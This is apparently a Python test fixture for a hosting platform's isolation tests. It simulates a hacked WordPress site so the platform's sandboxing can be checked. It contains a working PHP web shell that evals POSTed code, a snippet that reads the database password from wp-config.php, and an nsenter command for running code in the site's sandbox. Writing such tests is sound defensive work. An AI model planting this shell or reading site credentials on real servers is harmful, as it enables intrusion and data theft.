"""A site that was broken into: whoever did it runs what they like, as the site's user and in its sandbox.

Three ways in, as they are met: a web shell in PHP that nginx reaches, the site's database user, and native code in the
sandbox of its PHP (what a hole in PHP itself gives, so that `disable_functions` proves nothing here).
"""

import json
import time
from dataclasses import dataclass, field
from typing import Any

from tests.controlplane import until
from tests.lab import Node
from tests.place import Place

NODE = "web-1"
"""Where the hacked site and its neighbours are."""
PAST_THE_CACHE = {"Cookie": "wordpress_no_cache=1"}
SHELL = "tu-shell.php"
SHELL_CODE = "<?php header('Content-Type: text/plain'); error_reporting(0); eval($_POST['c']);"
IN_SANDBOX = """
pid=$(systemctl show --property=MainPID --value trueup-php@{id}.service)
exec nsenter --target $pid --mount --wd=/ setpriv --reuid={user} --regid={user} --clear-groups --no-new-privs \
  {program}
"""
CONNECT = r"""
preg_match("/'DB_PASSWORD', '([^']*)'/", file_get_contents('SITE/shared/wp-config.php'), $p);
mysqli_report(MYSQLI_REPORT_OFF);
$m = new mysqli('localhost', 'DB', $p[1], 'DB');
"""

# By a script of the site's own user: what it named and defined is not for root.
KEEP = r"""
$all = $m->query('SELECT option_name, option_value, autoload FROM wp_options')->fetch_all();
file_put_contents('SITE/tmp/tu-options.json', json_encode($all));
"""
DISARM = r"""
function q($name) { return '`' . str_replace('`', '``', $name) . '`'; }
foreach ($m->query("SELECT table_name FROM information_schema.views WHERE table_schema = DATABASE()") as $v) {
    $m->query('DROP VIEW ' . q(reset($v)));
}
foreach (array('TRIGGER', 'EVENT') as $k) {
    foreach ($m->query("SELECT {$k}_NAME FROM information_schema.{$k}S WHERE {$k}_SCHEMA = DATABASE()") as $v) {
        $m->query("DROP $k " . q(reset($v)));
    }
}
$routines = "SELECT routine_name, routine_type FROM information_schema.routines WHERE routine_schema = DATABASE()";
foreach ($m->query($routines)->fetch_all() as [$name, $type]) { $m->query("DROP $type " . q($name)); }
foreach ($m->query("SELECT table_name FROM information_schema.tables WHERE table_schema = DATABASE()") as $v) {
    $t = reset($v);
    if (substr($t, -5) === '_away') { $m->query('RENAME TABLE ' . q($t) . ' TO ' . q(substr($t, 0, -5))); continue; }
    $ours = '/^(?:wp_[tr][0-9`]|wp_loot|wp_l{9}|wp_\\xc3|another_|trueup_r)/';
    if (preg_match($ours, $t)) { $m->query('DROP TABLE ' . q($t)); }
}
if ($kept = json_decode(@file_get_contents('SITE/tmp/tu-options.json'))) {
    $m->query('DELETE FROM wp_options');
    $put = $m->prepare('INSERT INTO wp_options (option_name, option_value, autoload) VALUES (?, ?, ?)');
    foreach ($kept as [$n, $v, $a]) { $put->bind_param('sss', $n, $v, $a); $put->execute(); }
}
"""


@dataclass
class Hacked:
    """One environment with a web shell; its ``derived`` are copies that operations made of it."""

    place: Place
    environment: dict[str, Any]
    slug: str
    derived: list[dict[str, Any]] = field(default_factory=list)

    @property
    def id(self) -> str:
        return str(self.environment["id"])

    @property
    def key(self) -> str:
        return f"{self.slug}/production"

    @property
    def site(self) -> str:
        return f"/var/www/sites/{self.id}"

    @property
    def short(self) -> str:
        return self.id.replace("-", "")[:12]

    @property
    def database(self) -> str:
        return f"wp_{self.short}"

    @property
    def user(self) -> str:
        return f"wp-{self.short}"

    @property
    def node(self) -> Node:
        return self.place.node_of(self.environment)

    @property
    def api(self) -> str:
        return f"/api/environments/{self.id}"

    @property
    def now(self) -> dict[str, Any]:
        found: dict[str, Any] = self.place.plane.http.get(self.api).json()
        return found

    def native(self, code: str, *, seconds: float = 60) -> str:
        """What Python code prints, run as the site's user in the sandbox of its PHP."""
        program = f"timeout {seconds:.0f} python3 -I -S -"
        script = IN_SANDBOX.format(id=self.id, user=self.user, program=program)
        return self.node.ssh(script, input=code, timeout=seconds + 30).stdout

    def put(self, path: str, text: str) -> None:
        """A file of the site's own user, below its directory."""
        self.native(f"open({self.site + '/' + path!r}, 'w').write({text!r})")

    def break_in(self) -> None:
        """The web shell, as an upload through a plugin's hole leaves it."""
        path = f"{self.site}/current/wp-content/{SHELL}"
        # In a copy it is there already, and may be nobody's to change.
        self.native(f"import os; os.path.exists({path!r}) or open({path!r}, 'w').write({SHELL_CODE!r})")

    def php(self, code: str, timeout: float = 60, **fields: str) -> str:
        """What PHP code prints that the web shell is sent, with fields that it finds in $_POST."""
        host = self.environment["preview_url"].partition("://")[2]
        data = {"c": code, **fields}
        path = f"/wp-content/{SHELL}"
        answer = self.node.fetch(path, host=host, method="POST", data=data, headers=PAST_THE_CACHE, timeout=timeout)
        assert answer.status_code == 200, f"the web shell answers {answer.status_code}: {answer.text[:300]}"
        return answer.text

    @property
    def connect(self) -> str:
        """PHP that connects as its database user: `$m`, and its password in `$p[1]`."""
        return CONNECT.replace("SITE", self.site).replace("DB'", f"{self.database}'")

    def sql(self, *statements: str) -> list[str]:
        """The error of each statement, as the site's database user by its web shell; empty where it was taken."""
        code = f"{self.connect} foreach (json_decode($_POST['s']) as $s) {{ $m->query($s); $e[] = $m->error; }}"
        errors: list[str] = json.loads(self.php(f"{code} echo json_encode($e);", s=json.dumps(statements)))
        return errors

    def keep_tables(self) -> None:
        """Remember its options, for ``disarm``."""
        self._as_database_user(KEEP)

    def disarm(self) -> None:
        """Take what was planted in its tables away."""
        self._as_database_user(DISARM)

    def _as_database_user(self, code: str) -> None:
        """PHP on the node's command line, as the site's own users: its pages may be broken by now."""
        script = self.connect + code.replace("SITE", self.site)
        argv = ["setpriv", f"--reuid={self.user}", f"--regid={self.user}", "--clear-groups", "php", "-r", script]
        self.node.ssh(argv, check=False, timeout=60)

    def eval_in_wordpress(self, code: str) -> str:
        """The same beside a whole WordPress."""
        return self.php(f"require '{self.site}/current/wp-load.php'; {code}")

    def declare_options(self) -> None:
        """Git is the source of some of its options from now on: whoever looks at it reads them."""
        path = f"sites/{self.slug}/environments/production.yaml"
        text = self.place.plane.clone.read(path) + "  options: {blogname: Declared, blogdescription: Declared, too}\n"
        self.place.plane.clone.push({path: text.replace("Declared, too", "'Declared, too'")}, "Declare options")
        applied = lambda: "options" in self.place.manifest(self.environment).get("variables", {})  # noqa: E731
        until(applied, "the options to be set", told=self.place.plane.log)

    def everything(self) -> list[dict[str, Any]]:
        """This environment and what was made of it."""
        return [self.environment, *self.derived]

    def settle(self, patience_s: float = 30) -> bool:
        """Whether nothing is at work on it any more, and it may be operated on."""
        ends = time.monotonic() + patience_s
        while time.monotonic() < ends:
            jobs = self.place.plane.http.get("/api/jobs", params={"site_id": self.environment["site_id"]}).json()
            if not any(job["status"] in {"queued", "running"} for job in jobs):
                return bool(self.now.get("status") == "active")
            time.sleep(0.2)
        return False


def hack(place: Place, slug: str, name: str = NODE) -> Hacked:
    """A new site on the node of this name, and somebody else in it."""
    made = place.plane.cli("site", "create", slug, "--node", name)
    assert made.exit_code == 0, made.output
    found = Hacked(place, place.plane.environment_of(slug), slug)
    found.break_in()
    return found
